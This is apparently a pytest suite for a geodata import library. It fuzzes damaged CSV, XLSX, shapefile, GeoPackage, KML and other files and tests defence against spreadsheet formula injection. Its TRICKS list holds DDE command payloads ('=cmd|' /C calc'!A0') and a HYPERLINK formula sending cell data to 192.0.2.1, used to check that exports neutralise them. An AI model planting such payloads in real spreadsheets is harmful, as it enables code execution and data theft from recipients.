"""Damaged files of every format are taken or refused with a reason; nothing is half written.

The damage is drawn by a seeded generator, so that a file that fails can be made again.
"""

import csv
import io
import random
import tempfile
import zipfile
from contextlib import nullcontext
from datetime import UTC, datetime
from itertools import product
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
import shapely

from geodata import Column, Schema, Title, open_city
from geodata.engines.folder import create_feature_store
from geodata.errors import GeodataError, SystemNotDeclared
from geodata.intake import doubt_declared, import_file, refused_rows, understand
from geodata.schema import UNPLACED
from layers.imprint import imprint_of
from layers.sheets import render_csv, render_xlsx

NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)
PILES = Column("piles", Title("桩数", "Piles"), "whole", minimum=0)
AREA = Column("area_m2", Title("测算面积", "Area"), "number", unit="m²")
POINTS, AREAS = Schema(geometry="point", own=(PILES,)), Schema("polygon", own=(PILES, AREA))
ROWS = 24
DAMAGED = 40
"""How many files of each format are damaged; each in its own way."""

DRIVERS = {"geojson": "GeoJSON", "gpkg": "GPKG", "kml": "KML"}
FORMATS = ("csv", "xlsx", "geojson", "zip", "shp", "gpkg", "kml", "kmz", "parquet", "dxf")
PACKED = frozenset({"xlsx", "zip", "kmz"})
WITH_AREAS = frozenset({"geojson", "zip", "shp", "gpkg", "parquet"})
"""Formats that are damaged with areas in them; the others hold points."""

pytestmark = [
    pytest.mark.filterwarnings("ignore::RuntimeWarning"),  # GDAL's and shapely's remarks
    pytest.mark.filterwarnings("ignore::UserWarning"),
]


def the_rows(kind):
    """Return a frame of sites in the city, in WGS 84, one of them with a figure that is wrong."""
    points = shapely.points([(103.60 + step / 500, 36.10) for step in range(ROWS)])
    return gpd.GeoDataFrame(
        {
            "id": [f"S{number}" for number in range(ROWS)],
            "name": ["甘家巷充电站", "河口 站", "A, B", '"引号"'] * (ROWS // 4),
            "piles": [-1, *range(1, ROWS)],
        },
        geometry=shapely.buffer(points, 0.0009) if kind in WITH_AREAS else points,
        crs=4326,
    )


def whole_file(kind, folder):
    """Return the bytes of each part of an undamaged file of a format, by ending."""
    rows, file = the_rows(kind), folder / f"whole.{kind}"
    if kind in {"csv", "xlsx"}:
        table = rows.drop(columns="geometry").assign(lon=rows.geometry.x, lat=rows.geometry.y)
        table.to_csv(file, index=False) if kind == "csv" else table.to_excel(file, index=False)
    elif kind == "parquet":
        rows.to_parquet(file)
    elif kind == "dxf":
        shapes = rows[["geometry"]].assign(Layer="站").set_crs(None, allow_override=True)
        shapes.to_file(file, driver="DXF")
    elif kind == "kmz":
        return {"kmz": packed({"doc.kml": whole_file("kml", folder)["kml"]})}
    elif kind in {"shp", "zip"}:
        rows.to_file(folder / "whole.shp", encoding="GB18030")
        parts = {part.suffix[1:]: part.read_bytes() for part in folder.glob("whole.*")}
        archive = {f"站.{end}": content for end, content in parts.items()}
        return {"zip": packed(archive)} if kind == "zip" else parts
    else:
        rows.to_file(file, driver=DRIVERS[kind])
    return {kind: file.read_bytes()}


def packed(members):
    """Return an archive of members by name."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


# ------------------------------------------------------------------------ damage


def cut_short(content, draw):
    return content[: draw.randrange(len(content))]


def flip_bits(content, draw):
    changed = bytearray(content)
    for _ in range(draw.choice((1, 3, 30))):
        changed[draw.randrange(len(changed))] ^= 1 << draw.randrange(8)
    return bytes(changed)


def swap_blocks(content, draw):
    one, two, three = sorted(draw.randrange(len(content) + 1) for _ in range(3))
    return content[:one] + content[two:three] + content[one:two] + content[three:]


def double_part(content, draw):
    start, end = sorted(draw.randrange(len(content) + 1) for _ in range(2))
    return content[:end] + content[start:]


def blot_out(content, draw):
    start = draw.randrange(len(content))
    length = min(draw.choice((4, 40, 400)), len(content) - start)
    blot = draw.choice((bytes(length), b"\xff" * length, draw.randbytes(length)))
    return content[:start] + blot + content[start + length :]


DAMAGES = (cut_short, flip_bits, swap_blocks, double_part, blot_out)


def damaged(content, draw, *, is_packed):
    """Return content with one damage; of an archive, half the time inside and packed anew."""
    damage = draw.choice(DAMAGES)
    if not (is_packed and draw.random() < 0.5):
        return damage(content, draw)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = draw.choice([name for name, inner in members.items() if inner])
    return packed(members | {name: damage(members[name], draw)})


def damage_parts(parts, kind, draw):
    """Return the parts of a file with one of them damaged, missing, or all under a wrong ending."""
    what = draw.random()
    if what < 0.1:
        wrong = draw.choice([other for other in FORMATS if other != kind])
        return {wrong if end == kind else end: content for end, content in parts.items()}
    end = draw.choice(sorted(parts))
    if what < 0.2 and len(parts) > 1:
        return {other: content for other, content in parts.items() if other != end}
    return parts | {end: damaged(parts[end], draw, is_packed=kind in PACKED)}


# ------------------------------------------------------------------------- tests


def imported(file, store, schema=POINTS):
    return import_file(
        file,
        layer_id="sites",
        schema=schema,
        store=store,
        city=open_city(),
        who="tester",
        why="a test",
        recorded_at=NOW,
        system="wgs84",
    )


def files_in(folder):
    return sorted(str(one.relative_to(folder)) for one in folder.rglob("*") if one.is_file())


def files_told(store):
    """Return the files that the store's own lists name, and those that always are there."""
    told = {".lock", "current.json"}
    for number, facts in store._history():
        told |= {facts["file"], facts.get("closed") or facts["file"]}
        told.add(f"revisions/{number:06d}.json")
    return told


@pytest.fixture
def workshop(tmp_path, monkeypatch):
    """Give the folder in which temporary files are made, which must be empty afterwards."""
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.mark.parametrize("kind", FORMATS)
def test_damaged_files_are_taken_or_refused_and_leave_the_store_whole(kind, tmp_path, workshop):
    made = tmp_path / "made"
    made.mkdir()
    parts = whole_file(kind, made)
    store = create_feature_store(tmp_path / "features")
    for number in range(-1, DAMAGED):
        draw = random.Random(f"{kind} {number}")  # noqa: S311  damage, no secret
        folder = tmp_path / f"file{number}"
        folder.mkdir()
        given = parts if number < 0 else damage_parts(parts, kind, draw)
        for end, content in given.items():
            (folder / f"站点.{end}").write_bytes(content)
        main = kind if kind in given else min(given.keys() - parts.keys() or given)
        schema = AREAS if kind in WITH_AREAS else POINTS
        hold_import(folder / f"站点.{main}", store, schema, must_be_taken=number < 0)
        assert files_in(workshop) == []


def taken_or_refused(file, store, schema):
    """Return what became of a file, nothing if it was refused; let no other error through."""
    try:
        return imported(file, store, schema)
    except GeodataError:
        return None


def hold_import(file, store, schema, *, must_be_taken):
    """Import a file; hold that the store stands as before, or holds all that it says it took."""
    before, brought = store.revision(), files_in(file.parent)
    aside = set(files_in(store.folder / "aside"))
    intake = None if must_be_taken else taken_or_refused(file, store, schema)
    if must_be_taken:
        intake = imported(file, store, schema)
        assert (intake.rows_read, intake.rows_written) in {(ROWS, ROWS), (ROWS, ROWS - 1)}
    if intake is None:
        assert set(files_in(store.folder / "aside")) == aside
    revision = intake.revision if intake else ""
    assert store.revision() == (revision or before)
    rows = store.read("sites") if store.layers() else pd.DataFrame()
    if revision:
        assert intake.rows_written > 0
        assert len(rows) >= intake.rows_written
        assert rows.geometry.is_valid[rows.geometry.notna()].all()
        assert set(rows["geometry_status"][rows.geometry.isna()]) <= UNPLACED
    if intake:
        assert intake.rows_written + intake.rows_refused == intake.rows_read
        assert bool(intake.set_aside) == bool(intake.rows_refused)
    kept = {name for name in files_in(store.folder) if not name.startswith("aside/")}
    assert kept == files_told(store) & kept | {".lock", "current.json"} & kept
    assert files_in(file.parent) == brought


def shape_with(kind, number):
    """Return a shape in the city of which one corner has this number for its latitude."""
    corners = [(103.600, 36.10), (103.605, number), (103.610, 36.11), (103.610, 36.12)]
    with np.errstate(invalid="ignore"):
        return {
            "point": shapely.Point(103.6, number),
            "line": shapely.LineString(corners),
            "polygon": shapely.Polygon(corners),
        }[kind]


@pytest.mark.parametrize("number", [np.nan, np.inf, 1e300])
@pytest.mark.parametrize("kind", ["point", "line", "polygon"])
def test_a_corner_that_is_no_number_keeps_its_row_out_and_nothing_else(kind, number, tmp_path):
    shapes = [shape_with(kind, 36.105), shape_with(kind, number)]
    schema = Schema(kind, own=(AREA,) if kind == "polygon" else ())
    for system in (4326, 4544, None):
        rows = gpd.GeoDataFrame({"id": ["S1", "S2"]}, geometry=shapes, crs=system)
        rows.to_parquet(tmp_path / "sites.parquet")
        file, city = tmp_path / "sites.parquet", open_city()
        with pytest.raises(SystemNotDeclared) if system is None else nullcontext():
            found = understand(file, layer_id="sites", schema=schema, city=city)
            assert 2 in found.checked.refused
            doubt_declared(found, city)
        found = understand(file, layer_id="sites", schema=schema, city=city, system="gcj02")
        assert (found.checked.good["id"].tolist(), found.checked.refused) == (["S1"], (2,))


# ---------------------------------------------------------------- formulas in cells

TRICKS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"站")',
    "＝1+1",
    "  =1+1",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def a_tricky_file(folder, kind):
    """Return a file all of whose rows are refused, with tricks in headings and cells."""
    head = ["编号", "名称", "桩数", "经度", "纬度", "=1+1"]
    rows = [
        [f"T{place}", trick, "-3", "103.6", "36.1", trick] for place, trick in enumerate(TRICKS)
    ]
    file = folder / f"台账.{kind}"
    if kind == "csv":
        with file.open("w", encoding="utf-8", newline="") as opened:
            csv.writer(opened).writerows([head, *rows])
        return file
    book = openpyxl.Workbook()
    for row, column in product(range(len(rows) + 1), range(len(head))):
        cell = book.active.cell(row + 1, column + 1, [head, *rows][row][column])
        cell.data_type = "s"  # text, as a bureau's list has it; else it is a formula without value
    book.save(file)
    return file


def first_signs(content):
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    return {cell.lstrip()[:1] for cell in cells if cell not in {"-3", ""}}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_in_cells_are_harmless_in_the_rows_set_aside_and_go_in_as_they_came(
    kind, tmp_path
):
    store = create_feature_store(tmp_path / "features")
    intake = imported(a_tricky_file(tmp_path, kind), store)
    assert (intake.rows_written, intake.rows_refused) == (0, len(TRICKS))
    aside = Path(intake.set_aside)
    assert not first_signs(aside.read_bytes()) & set(SIGNS)
    mended = tmp_path / "mended.csv"
    mended.write_text(aside.read_text("utf-8-sig").replace(",-3,", ",3,"), "utf-8")
    assert imported(mended, store).rows_refused == 0
    assert sorted(store.read("sites")["name"]) == sorted(trick.strip() for trick in TRICKS)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_in_cells_are_harmless_in_every_file_that_is_taken_away(kind, tmp_path):
    result = understand(
        a_tricky_file(tmp_path, kind),
        layer_id="sites",
        schema=POINTS,
        city=open_city(),
        system="wgs84",
    )
    rows = refused_rows(result).drop(columns="桩数")
    imprint = imprint_of(open_city(), NOW.date(), "1", is_demonstration=False)
    assert not first_signs(render_csv(rows)) & set(SIGNS)
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx({"行": rows}, imprint, "zh")))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    runs = [cell for cell in cells if str(cell.value).strip().startswith(SIGNS)]
    assert len(runs) == 2 * len(TRICKS) + 1
    assert all(cell.quotePrefix for cell in runs)
